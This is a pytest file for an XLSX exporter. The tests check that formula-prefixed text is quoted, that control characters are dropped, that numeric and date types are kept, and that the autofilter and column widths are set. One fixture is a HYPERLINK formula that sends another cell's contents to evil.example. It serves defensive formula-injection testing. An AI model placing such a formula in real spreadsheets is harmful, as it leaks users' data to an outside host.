"""The XLSX writer: text never becomes a formula, control characters cannot break the file,
numbers and dates keep their types, and the header carries an autofilter."""

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from profrost.core.exporters import (
    FORMULA_PREFIXES,
    MAX_WIDTH,
    restore_text,
    safe_text,
    write_xlsx,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Открыть")'


def written(headers, rows):
    return load_workbook(BytesIO(write_xlsx(headers, rows))).active


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_text_with_a_formula_prefix_is_written_as_quoted_text(prefix):
    sheet = written(["Фамилия"], [[f"{prefix}1+2"]])

    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == f"'{prefix}1+2"


def test_a_hyperlink_formula_from_an_import_is_plain_text():
    sheet = written(["Фамилия", "Имя"], [[HYPERLINK, "Анна"]])

    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == "'" + HYPERLINK


def test_control_characters_are_dropped_from_text():
    sheet = written(["Название\x07"], [["Урок\x07 математики\x1f"], ["\x07=1+2"]])

    assert [sheet["A1"].value, sheet["A2"].value, sheet["A3"].value] == [
        "Название",
        "Урок математики",
        "'=1+2",
    ]


def test_a_header_with_a_formula_prefix_is_quoted_too():
    sheet = written(["=Поле", "-Поле"], [])

    assert [(cell.value, cell.data_type) for cell in sheet[1]] == [("'=Поле", "s"), ("'-Поле", "s")]


def test_numbers_stay_numbers_even_when_negative():
    sheet = written(["a", "b", "c"], [[-5, Decimal("-1.5"), -0.25]])

    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [
        (-5, "n"),
        (-1.5, "n"),
        (-0.25, "n"),
    ]


def test_dates_and_datetimes_keep_their_formats():
    sheet = written(["Дата", "Время"], [[date(2025, 3, 14), datetime(2025, 3, 14, 9, 30)]])

    assert (sheet["A2"].value, sheet["A2"].number_format) == (
        datetime(2025, 3, 14),
        "DD.MM.YYYY",
    )
    assert (sheet["B2"].value, sheet["B2"].number_format) == (
        datetime(2025, 3, 14, 9, 30),
        "DD.MM.YYYY HH:MM",
    )


def test_text_that_looks_like_an_error_code_stays_text():
    sheet = written(["a"], [["#N/A"]])

    assert (sheet["A2"].value, sheet["A2"].data_type) == ("#N/A", "s")


def test_ordinary_text_is_written_unchanged():
    sheet = written(["a", "b"], [["Иванова-Петрова", "'цитата'"]])

    assert [cell.value for cell in sheet[2]] == ["Иванова-Петрова", "'цитата'"]


def test_empty_text_is_an_empty_cell():
    sheet = written(["a", "b"], [["", "\x07"]])

    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [(None, "n"), (None, "n")]


def test_autofilter_covers_the_header_and_the_rows():
    sheet = written(["a", "b", "c"], [[1, 2, 3], [4, 5, 6]])

    assert sheet.auto_filter.ref == "A1:C3"
    assert sheet.freeze_panes == "A2"


def test_autofilter_of_an_empty_table_covers_the_header():
    assert written(["a", "b"], []).auto_filter.ref == "A1:B1"


@given(st.text())
def test_restore_text_gives_back_what_safe_text_wrote(text):
    text = ILLEGAL_CHARACTERS_RE.sub("", text)

    assert restore_text(safe_text(text)) == text


@given(st.text())
def test_safe_text_never_starts_with_a_formula_prefix(text):
    assert not safe_text(text).startswith(FORMULA_PREFIXES)


def test_columns_are_as_wide_as_their_longest_value_within_the_bound():
    sheet = written(["Фамилия", "Дата", "Текст"], [["Иванова", date(2025, 3, 14), "ж" * 500]])

    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [
        len("Фамилия") + 2,
        len("ДД.ММ.ГГГГ") + 2,
        MAX_WIDTH + 2,
    ]
